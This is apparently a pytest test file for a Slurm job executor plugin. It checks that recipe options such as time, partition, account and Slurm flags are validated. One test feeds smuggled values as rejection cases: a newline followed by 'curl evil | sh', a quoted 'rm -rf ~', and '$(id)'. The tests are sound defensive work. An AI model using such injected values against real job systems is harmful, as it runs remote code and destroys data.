"""What a recipe may say of its Slurm jobs, and what it may not; needs no library."""

from __future__ import annotations

import importlib.util
import shutil
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from cod_runner.api import BuildContext, ClusterRequest, SettingError, Workers
from codrun_submitit.call import end_earlier_calls
from codrun_submitit.cluster import chosen_cluster
from codrun_submitit.executor import Submitit
from codrun_submitit.options import SubmititOptions


@pytest.mark.parametrize(
    ("written", "minutes"), [("2h", 120), ("30min", 30), ("1d", 1440), (90, 90), ("100h", 6000), ("366d", 366 * 1440)]
)
def test_a_time_is_minutes(written: Any, minutes: int) -> None:
    options = SubmititOptions.model_validate({"time": written})
    assert options.time == minutes
    assert SubmititOptions.model_validate(options.model_dump(mode="json")) == options


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ({"time": "2 hours"}, "write it as in 30min, 2h or 1d, or as a whole number of minutes, not '2 hours'"),
        ({"time": True}, "write it as in"),
        ({"time": 0}, "must be from a minute to a year, not 0"),
        ({"time": "999999d"}, "must be from a minute to a year"),
        ({"gpus": -1}, "greater than or equal to 0"),
        ({"memory": "much"}, "write it as in 8GB"),
        ({"cells_per_job": 0}, "greater than or equal to 1"),
        ({"cluster": "debug"}, "'auto', 'slurm' or 'local'"),
    ],
)
def test_a_wrong_option_is_refused(options: dict[str, Any], said: str) -> None:
    with pytest.raises(ValidationError, match=said.replace("(", r"\(")):
        SubmititOptions.model_validate(options)


@pytest.mark.parametrize("option", ["partition", "account", "qos"])
@pytest.mark.parametrize(
    "value",
    ["x\ncurl evil | sh", "x\n", "a b", "'; rm -rf ~;'", "$(id)", "`id`", "--wrap=id", "-x", "", "x\r", "é", "a" * 201],
)
def test_a_word_of_slurms_cannot_leave_its_line(option: str, value: str) -> None:
    with pytest.raises(ValidationError, match="is a word of letters, digits and the signs"):
        SubmititOptions.model_validate({option: value})
    with pytest.raises(ValidationError, match="is a word of letters, digits and the signs"):
        SubmititOptions.model_validate({"slurm": {"constraint": value}})


@pytest.mark.parametrize(
    "flag",
    ["setup", "slurm_setup", "python", "teardown", "srun_args", "wrap", "export", "output", "error", "chdir", "array",
     "prolog", "task_prolog", "mail_user", "job_name", "container", "dependency", "constraint\n#"],
)  # fmt: skip
def test_no_flag_runs_reads_or_writes_anything(flag: str) -> None:
    with pytest.raises(ValidationError, match="literal_error"):
        SubmititOptions.model_validate({"slurm": {flag: "x"}})
    if flag.isidentifier():
        with pytest.raises(ValidationError, match="extra_forbidden"):
            SubmititOptions.model_validate({flag: "x"})


def test_words_that_slurm_knows_are_taken() -> None:
    slurm = {"constraint": "a100|h100", "exclude": "node[1-3,7]", "gres": "gpu:a100:2", "nice": 10}
    options = SubmititOptions.model_validate({"partition": "gpu,long", "account": "proj_1", "slurm": slurm})
    assert options.slurm == slurm


def test_without_slurm_jobs_run_here_unless_slurm_is_asked_for(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(importlib.util, "find_spec", lambda name: object())
    monkeypatch.setattr(shutil, "which", lambda name: None)
    assert chosen_cluster(SubmititOptions()) == "local"
    with pytest.raises(SettingError, match="there is no Slurm on this machine") as caught:
        chosen_cluster(SubmititOptions(cluster="slurm"))
    assert caught.value.setting == ("cluster",)
    monkeypatch.setattr(shutil, "which", lambda name: f"/usr/bin/{name}")
    assert chosen_cluster(SubmititOptions()) == "slurm"
    assert chosen_cluster(SubmititOptions(cluster="local")) == "local"


def test_a_missing_library_is_said_with_its_cure(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(importlib.util, "find_spec", lambda name: None)
    with pytest.raises(SettingError) as caught:
        Submitit(SubmititOptions(), BuildContext())
    assert str(caught.value) == 'the executor `submitit` needs submitit; run `pip install "codrun[submitit]"`'


def test_workers_are_slurms_or_this_machines(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(importlib.util, "find_spec", lambda name: object())
    monkeypatch.setattr(shutil, "which", lambda name: f"/usr/bin/{name}")
    monkeypatch.setattr("os.sched_getaffinity", lambda process: {0, 1, 2})
    found = [
        Submitit(SubmititOptions.model_validate(options), BuildContext(device="cuda:1")).workers()
        for options in ({}, {"gpus": 2, "at_once": 8}, {"cluster": "local"}, {"cluster": "local", "gpus": 1})
    ]
    assert found == [Workers(64, "cpu"), Workers(8, "cuda"), Workers(3, "cpu"), Workers(1, "cuda")]


def test_a_plan_can_say_what_slurm_would_be_asked_for(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shutil, "which", lambda name: f"/usr/bin/{name}")
    options = {"partition": "gpu", "gpus": 2, "time": "2h", "memory": "8GB", "cells_per_job": 4, "at_once": 3}
    asked = SubmititOptions.model_validate({**options, "slurm": {"constraint": "a100"}}).cluster_request(20)
    expected = ClusterRequest("Slurm, partition gpu, constraint a100", 5, 3, 1, 2, memory=8_000_000_000, minutes=120)
    assert asked == expected
    few = SubmititOptions(cells_per_job=4).cluster_request(5)
    assert few is not None and few.jobs == 5, "no fewer jobs than may run at once"
    assert SubmititOptions(cluster="local").cluster_request(20) is None
    monkeypatch.setattr(shutil, "which", lambda name: None)
    assert SubmititOptions().cluster_request(20) is None
    assert SubmititOptions(cluster="slurm").cluster_request(20) is not None


def test_what_a_killed_run_left_is_removed_and_nothing_else(tmp_path: Path) -> None:
    def left(*files: str) -> list[str]:
        shutil.rmtree(tmp_path / "submitit", ignore_errors=True)
        for file in files:
            (tmp_path / "submitit" / file).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / "submitit" / file).touch()
        end_earlier_calls(tmp_path, print)
        return sorted(str(path.relative_to(tmp_path)) for path in tmp_path.rglob("*"))

    killed, ended = "codrun-0123456789ab", "codrun-0123456789ac"
    assert left(f"{killed}/head.lock", f"{killed}/work.pkl", f"{killed}/0.answer") == []
    log = f"submitit/{ended}/7_log.err"
    assert left(f"{killed}/head.lock", f"{ended}/7_log.err") == ["submitit", f"submitit/{ended}", log]
    assert left("mine/head.lock") == ["submitit", "submitit/mine", "submitit/mine/head.lock"]
